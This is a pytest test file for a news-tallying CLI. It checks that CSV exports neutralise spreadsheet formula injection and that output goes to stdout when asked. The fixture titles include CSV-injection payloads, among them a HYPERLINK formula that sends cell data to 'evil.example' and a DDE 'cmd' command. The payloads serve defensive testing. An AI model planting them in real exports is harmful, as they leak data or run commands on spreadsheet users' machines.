"""CSV exports are safe to open in a spreadsheet and spell values one way; -o - is stdout."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from newstally.cli import main

TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]
PLACES = ["Kunduz", "Lagos", "Mosul", "Quetta"]
CROPS = ["wheat", "rice", "maize", "barley"]


def invoke(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    tmp = tmp_path_factory.mktemp("exports")
    lines = [{"id": f"r{n}", "title": title, "published": f"2024-0{n + 1}-10",
              "text": f"At least {n + 3} people were killed when a bomb exploded at a {crop} market in "
                      f"{place} on Monday, police said."}
             for n, (title, place, crop) in enumerate(zip(TITLES, PLACES, CROPS))]
    path = tmp / "r.jsonl"
    path.write_text("".join(json.dumps(x) + "\n" for x in lines))
    db = str(tmp / "e.db")
    r = invoke("ingest", str(path), "--db", db)
    assert r.exit_code == 0, r.output
    return db


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_export_csv_neutralises_formulas(db: str, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    assert invoke("export", "--db", db, "--format", "csv", "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    titles = {r["title"] for r in rows}
    assert titles == {"'" + t for t in TITLES}
    for row in rows:
        _no_formula(list(row.values()))


def test_events_csv_neutralises_formulas(db: str) -> None:
    r = invoke("events", "--db", db, "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert {r["title"] for r in rows} == {"'" + t for t in TITLES}
    for row in rows:
        _no_formula(list(row.values()))


def test_json_keeps_titles_as_they_are(db: str) -> None:
    r = invoke("events", "--db", db, "--format", "json")
    assert {e["title"] for e in json.loads(r.stdout)} == set(TITLES)


def test_contested_is_spelled_the_same_in_both_csvs(db: str, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    invoke("export", "--db", db, "--format", "csv", "-o", str(out))
    exported = {r["contested"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    listed = {r["contested"] for r in csv.DictReader(io.StringIO(invoke("events", "--db", db, "--format", "csv").stdout))}
    assert exported | listed <= {"true", "false"} and exported and listed


@pytest.mark.parametrize("value,safe", [("=1", "'=1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("@x", "'@x"), ("plain", "plain"), ("", ""), (None, None), (3, 3),
                                        (-3, -3), (True, "true"), (False, "false"), ("a=b", "a=b")])
def test_csv_safe(value: object, safe: object) -> None:
    from newstally.ledger import csv_safe

    assert csv_safe(value) == safe


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_to_standard_output(db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    monkeypatch.chdir(tmp_path)
    r = invoke("export", "--db", db, "--format", fmt, "-o", "-")
    assert r.exit_code == 0, r.output
    assert not (tmp_path / "-").exists()
    assert "Kunduz" in r.stdout and "standard output" in r.stderr
    if fmt == "json":
        assert len(json.loads(r.stdout)) >= len(TITLES)


def test_parquet_export_to_standard_output(db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pyarrow.parquet as pq

    monkeypatch.chdir(tmp_path)
    r = invoke("export", "--db", db, "--format", "parquet", "-o", "-")
    assert r.exit_code == 0, r.output
    assert not (tmp_path / "-").exists()
    table = pq.read_table(io.BytesIO(r.stdout_bytes))
    assert table.num_rows >= len(TITLES)
